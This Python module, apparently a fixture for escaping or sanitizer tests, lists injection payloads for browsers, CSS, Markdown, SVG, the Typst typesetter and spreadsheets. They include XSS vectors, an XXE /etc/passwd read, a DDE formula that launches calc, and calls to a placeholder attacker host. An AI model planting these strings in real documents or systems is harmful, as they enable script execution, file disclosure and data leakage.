"""120 texts that mean mischief to some reader: browsers, style sheets, Markdown, SVG, the typesetter, spreadsheets."""

from __future__ import annotations

SCRIPT = (
    "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>", "<form action=//evil.example><input name=a autofocus onfocus=alert(1)>",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext></mtext></math><x>",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}{% raw %}{{ config }}", "{# x #}{% include '/etc/passwd' %}", "${7*7}#{7*7}<%= 7*7 %>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)  # fmt: skip

STYLE = (
    "<style>*{display:none}</style>", "</style>body{background:url(//evil.example)}", "x;background:url(//evil.example)",
    '"style="position:fixed;inset:0', "@import '//evil.example/x.css';", "expression(alert(1))", "}body{color:transparent}",
    "/*</style>*/", "\\3c script\\3e", "behavior:url(x.htc)", "<div style=background:url(//evil.example)>",
    "url(data:image/svg+xml;base64,PHN2Zy8+)", "-moz-binding:url(//evil.example)", "<b class=pass>Approved</b>",
)  # fmt: skip

MARKDOWN = (
    "[click](javascript:alert(1))", "![x](http://evil.example/x.png)", "[x]: http://evil.example", "<http://evil.example>",
    "http://evil.example/a_b", "www.evil.example", "someone@evil.example", "# Approved", "> Approved by everybody",
    "- [x] approved", "1. one", "```\ncode\n```", "`code`", "| a | b |", "*bold* _it_ **b** __b__ ~~no~~", "---",
    "===", "a  \nb", "\\", "&nbsp;&#65;", "[^1]: note", "$x^2$ $$y$$", ":tada: @team #12", "<!-- hidden -->",
    "+ plus\n* star", "~~~\nx\n~~~",
)  # fmt: skip

DRAWING = (
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "<use href=//evil.example#x />",
    "<image href='http://evil.example/x.png'/>", "<foreignObject><script>alert(1)</script></foreignObject>",
    "<animate onbegin=alert(1) attributeName=x>", "<set attributeName=href to=javascript:alert(1)>", "</text><script>x</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<?xml-stylesheet href='//evil.example'?>",
    '" onmouseover="alert(1)', "</title></rect><script>alert(1)</script>", "$\\frac{1}{0}$", "\\textbf{x} \\input{/etc/passwd}",
    "<a xlink:href=javascript:alert(1)>x</a>",
)  # fmt: skip

TYPESETTER = (
    '#panic("x")', '#read("/etc/passwd")', '#import "card.typ": *', '#include "/etc/passwd"', '#eval("1+1")',
    '#link("http://evil.example")[x]', '#image("x.svg")', "#set page(width: 1pt)", "#show: none", "$ integral_0^1 $",
    "<label> @ref", "= Heading", "/ term: x", "// comment", "/* comment */", "```typ #panic() ```", ']#panic("x")[',
    "\\#x \\u{202e}", '#pdf.attach("x", bytes("y"))', "#sys.inputs.card",
)  # fmt: skip

SPREADSHEET = (
    "=1+1", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', '=DDE("a";"b";"c")',
    '"=1+1', "'=1+1", ";=1+1", ",=1+1", '=1+1","x', "%0A=1+1", "|calc", '="a"&"b"', "＝1+1",
)  # fmt: skip

PAYLOADS = (*SCRIPT, *STYLE, *MARKDOWN, *DRAWING, *TYPESETTER, *SPREADSHEET)
